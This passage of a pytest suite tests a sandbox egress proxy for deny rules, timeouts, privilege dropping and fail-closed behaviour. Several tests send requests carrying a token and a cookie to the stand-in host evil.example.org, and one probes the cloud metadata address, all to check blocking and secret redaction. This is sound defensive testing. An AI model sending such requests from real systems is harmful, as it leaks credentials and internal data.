        assert sessions_end(gate, 4)


def test_a_head_that_does_not_end_is_given_ten_seconds(world):
    with Gate(world, rules=[f"http://{SITE}"]) as gate, gate.connect("127.0.0.1", 3128) as sock:
        sock.settimeout(30)
        began = time.monotonic()
        sock.sendall(f"GET http://{SITE}/ HTTP/1.1\r\n".encode())
        with contextlib.suppress(OSError):
            while time.monotonic() - began < 20:
                sock.sendall(b"x: y\r\n")
                time.sleep(0.5)
        assert 8 < time.monotonic() - began < 16


def test_post_to_a_denied_name_is_answered_before_the_body(gate):
    started = time.monotonic()
    answer = talk(gate, "POST http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nExpect: 100-continue\r\n"
                        "Content-Length: 1000000\r\n\r\n", end=False)
    assert answer.startswith("HTTP/1.1 403") and "100 Continue" not in answer
    assert time.monotonic() - started < 5


def test_a_connection_to_the_gate_itself(gate):
    assert talk(gate, b"GET / HTTP/1.1\r\n\r\n", 3129) == ""
    assert gate.wait_event(event="egress", reason="loop")


def test_udp_and_quic_do_not_pass(gate):
    result = gate.run(["/usr/bin/python3", "-c",
                       "import socket;s=socket.socket(2,2);s.settimeout(2);s.connect(('93.184.216.34',443));"
                       "s.send(b'x');s.recv(10)"])
    assert result.returncode != 0


def test_own_servers_inside_keep_working(gate):
    for address in ("127.0.0.1", "::1", "127.0.0.77", "198.18.255.254"):
        server = listen_in(gate.namespace, address, 8000)
        with gate.connect(address, 8000) as client:
            peer, _ = server.accept()
            peer.sendall(b"mine")
            assert client.recv(4) == b"mine"
            peer.close()
        server.close()


# --- the tunnel

def test_half_close_is_passed_on(gate):
    gate.ask("git.example.com")
    with gate.connect("93.184.216.36", 22) as sock:
        sock.sendall(b"last words")
        sock.shutdown(socket.SHUT_WR)
        got = b""
        while piece := sock.recv(4096):
            got += piece
        assert got == b"SSH-2.0-test\r\nlast words"


# --- the process

def test_health_and_stats(gate):
    assert gate.stats("/health")["status"] == "ok"
    assert gate.stats()["allowed"] > 0
    assert "error" in gate.stats("/else")


def test_the_cage(gate):
    status = open(f"/proc/{gate.process.pid}/status").read()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    for capability in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[capability], 16) == 0
    assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"
    assert set(fields["Uid"].split()) == {"64123"} and set(fields["Gid"].split()) == {"64123"}
    assert fields["Groups"].strip() == ""


def test_every_deny_has_one_event_without_secrets(gate):
    before = len(gate.events(event="egress"))
    talk(gate, "GET http://evil.example.org/p?token=hunter2 HTTP/1.1\r\nHost: evil.example.org\r\nCookie: s=hunter2\r\n\r\n")
    new = gate.events(event="egress")[before:]
    assert len(new) == 1
    event = new[0]
    assert (event["verdict"], event["reason"], event["host"], event["port"]) == ("deny", "no_rule", "evil.example.org", 80)
    assert event["method"] == "GET" and event["path"] == "/p" and event["retryable"] is False
    assert event["hint"] == "cofferdam run --allow 'http://evil.example.org'"
    assert event["service"] == "egressproxy" and event["sandbox"] == "test"
    assert "hunter2" not in gate.events_file.read_text()


def test_an_end_of_the_supervisor_is_its_end(world):
    gate = Gate(world, rules=[f"http://{SITE}", "tcp://git.example.com:22"]).__enter__()
    try:
        gate.ask("git.example.com")
        with gate.connect("93.184.216.36", 22) as sock:
            sock.recv(100)
            assert gate.stop() == 0
            with pytest.raises((ConnectionError, AssertionError)):
                assert sock.recv(100)
        # The record of what was still open is there.
        assert gate.events(event="egress", host="git.example.com", verdict="allow")
        with pytest.raises(OSError):
            gate.connect(V4, 80, timeout=3)
    finally:
        gate.__exit__()


def test_killed_means_no_network(world):
    with Gate(world, rules=[f"http://{SITE}"]) as gate:
        assert body(gate.curl("-4", f"http://{SITE}/"))
        os.kill(gate.process.pid, 9)
        gate.process.wait()
        assert gate.curl("-4", "--resolve", f"{SITE}:80:{V4}", f"http://{SITE}/").returncode != 0
        assert gate.curl("-4", f"http://{SITE}/").returncode != 0


def test_an_event_that_cannot_be_written_ends_new_connections(world):
    with Gate(world, rules=[f"http://{SITE}"]) as gate:
        assert body(gate.curl("-x", gate.proxy, f"http://{SITE}/"))
        os.truncate(gate.events_file, 256 << 20)  # past what a sandbox may record
        gate.curl("-x", gate.proxy, f"http://{SITE}/")  # the one whose record fails
        answer = gate.curl("-i", "-x", gate.proxy, f"http://{SITE}/").stdout
        assert "quota_exceeded" in answer
        assert gate.stats("/health")["status"] != "ok"


def start_error(argv, **options):
    result = subprocess.run([BIN / "cofferdam-egressproxy", *map(str, argv)], capture_output=True, text=True, timeout=20,
                            **options)
    return result.returncode, result.stderr


def test_it_does_not_start_with_what_it_cannot_check(world, tmp_path):
    good = tmp_path / "good.json"
    good.write_text(json.dumps({"version": 1, "sandbox": "s", "operation": "o", "manifest": "m", "mode": "enforce",
                                "rules": [], "resolver": {"servers": [DNS4]}}))
    bad = tmp_path / "bad.json"
    bad.write_text(good.read_text().replace('"rules": []', '"rules": [{"id": "a", "rule": "*"}]'))
    events = os.open(tmp_path / "events", os.O_CREAT | os.O_WRONLY | os.O_APPEND)
    gate = Gate(world)
    gate._namespace()
    sockets = gate.gate_sockets()
    stranger = listen_in(world.internet, "127.0.0.1", 3128)
    odd_port = listen_in(gate.namespace, "127.0.0.1", 4000)
    public = listen_in(gate.namespace, "198.18.255.254", 3128)
    ids = ["--uid", 64123, "--gid", 64123]

    def attempt(policy, socks, extra=()):
        fds = [s.fileno() for s in socks] + [events]
        words = ["--policy", policy, "--events-fd", events, *extra]
        for sock in socks:
            words += ["--gate-fd", sock.fileno()]
        return start_error(words, pass_fds=fds)
    try:
        for policy, socks, extra, what in (
                (bad, sockets, ids, "mode 'open'"), (tmp_path / "none.json", sockets, ids, "none.json"),
                (good, sockets + [stranger], ids, "another network namespace"),
                (good, [odd_port], ids, "port that the gate does not have"), (good, [public], ids, "not on loopback"),
                (good, sockets, [], "--uid"), (good, sockets, ["--uid", 0, "--gid", 0], "root"),
                (good, [], ids, "nothing to serve")):
            code, error = attempt(policy, socks, extra)
            assert code == 1 and what in error, (what, error)
        code, error = start_error(["--policy", good, "--gate-fd", events, "--events-fd", events, *ids], pass_fds=[events])
        assert code == 1 and "gate descriptor" in error
    finally:
        for sock in [*sockets, stranger, odd_port, public]:
            sock.close()
        os.close(events)
        gate._stack.close()


def test_listen_serves_without_a_sandbox(world):
    with Gate(world, rules=[f"http://{SITE}", SITE],
              listen=[f"explicit={World.OUTSIDE}:3128", f"dns={World.OUTSIDE}:53", "explicit=[::1]:3128"]) as stack:
        def curl(*words):
            return world.run_outside(["curl", "-sS", "-m", "20", "--cacert", world.ca_file, *words])
        proxy = f"http://{World.OUTSIDE}:3128"
        assert body(curl("-x", proxy, f"http://{SITE}/"))["path"] == "/"
        assert body(curl("-x", proxy, f"https://{SITE}/"))["path"] == "/"
        assert body(curl("-x", "http://[::1]:3128", f"http://{SITE}/"))["path"] == "/"
        assert "no_rule" in curl("-i", "-x", proxy, "http://evil.example.org/").stdout
        # The gate does not lead to itself.
        assert "loopback_address" in curl("-i", "-x", proxy, "http://127.0.0.1:3128/").stdout
        assert stack.events(event="egress", reason="no_rule")


def test_open_mode_keeps_deny_rules_and_the_floor(world):
    world.dns.add("free.example.net", A=V4)
    world.dns.add("banned.example.net", A=V4)
    with Gate(world, mode="open", deny=["banned.example.net"]) as free:
        assert body(free.curl("http://free.example.net/"))["server"] == V4
        assert free.ask("banned.example.net")[0] == 3
        # The shared address does not lead to the denied name.
        result = free.curl("--resolve", f"banned.example.net:443:{V4}", "-k", "https://banned.example.net/")
        assert result.returncode != 0
        assert free.wait_event(event="egress", reason="denied_by_rule", host="banned.example.net", port=443)
        result = free.curl("-i", "-H", "Host: banned.example.net", "http://free.example.net/")
        assert "403" in result.stdout and "denied_by_rule" in result.stdout, result
        assert reason_of(talk(free, "GET / HTTP/1.1\r\nHost: x\r\n\r\n", 80, "169.254.169.254")) == "metadata_address"
